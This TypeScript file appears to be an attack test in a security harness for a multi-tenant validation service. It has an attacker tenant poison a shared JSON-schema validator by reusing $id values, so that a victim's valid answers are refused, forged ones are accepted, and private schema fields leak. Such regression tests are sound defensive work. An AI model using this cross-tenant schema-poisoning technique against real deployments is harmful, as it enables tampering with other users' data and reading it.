import type { Attack } from '../target/attack.ts';
import type { AttackedDeployment } from '../target/attacked-deployment.ts';

/** Names that a schema defines in the validator are used to change, or to read, the schema of another tenant. */
export const schemaCrosstalk: Attack = {
  name: 'schemas of different tenants in one validation thread',
  withoutGuard: [
    {
      file: 'validation-thread.mjs',
      from: 'new drafts[draft]({ ...options, validateSchema: false, ...more }).compile(schema)',
      to: 'metaValidators[draft].compile(schema)',
    },
  ],
  async run(target) {
    const victim = await target.createKey(await target.createTenant());
    const attacker = await target.createKey(await target.createTenant());
    const gains: string[] = [];

    await submit(
      target,
      attacker.key,
      { $schema: DRAFT_07, type: 'object', properties: { evil: REDEFINED_ITEM } },
      {},
    );
    if (!(await submit(target, victim.key, ORDER, { item: { sku: 'a' } })).includes('"completed"'))
      gains.push("the victim's right answer is refused");
    if ((await submit(target, victim.key, ORDER, { item: 'FORGED' })).includes('"completed"'))
      gains.push('a forged answer is accepted');

    const base = 'https://attacker.example/read';
    await submit(
      target,
      attacker.key,
      { type: 'object', properties: { customer: { $id: base, $anchor: 'probe' } } },
      {},
    );
    await submit(target, victim.key, PRIVATE_SCHEMA, { customer: { privateField: 'a' } });
    const probe = { type: 'object', required: ['p'], properties: { p: { $id: base, $ref: '#probe' } } };
    if ((await submit(target, attacker.key, probe, { p: {} })).includes('privateField'))
      gains.push("a field of the victim's schema is read");
    return gains;
  },
};

const DRAFT_07 = 'http://json-schema.org/draft-07/schema#';
const ORDER = {
  $schema: DRAFT_07,
  $id: 'https://victim.example/order.json',
  type: 'object',
  required: ['item'],
  properties: { item: { $ref: '#/definitions/item' } },
  definitions: { item: { type: 'object', required: ['sku'], properties: { sku: { type: 'string' } } } },
};
const REDEFINED_ITEM = { $id: 'https://victim.example/order.json#/definitions/item', const: 'FORGED' };
const PRIVATE_SCHEMA = {
  type: 'object',
  properties: { customer: { type: 'object', required: ['privateField'] } },
};

/** Delegates a call with a schema and answers it; returns what the reply says. */
async function submit(
  target: AttackedDeployment,
  key: string,
  schema: object,
  object: unknown,
): Promise<string> {
  const requestParameters = { messages: [{ role: 'user', content: 'x' }], schema };
  const delegatedCallDetails = { originalCommand: 'x', serviceType: 'generateObject', requestParameters };
  const { content, text } = await target.callTool(key, 'agent_llm', { delegatedCallDetails });
  if (content?.interactionId === undefined) return text;
  const agentLLMResponse = { status: 'success', data: { object } };
  const { interactionId } = content;
  const answered = await target.callTool(
    key,
    'agent_llm',
    { interactionId, agentLLMResponse, waitMs: 8_000 },
    1,
  );
  return answered.text;
}
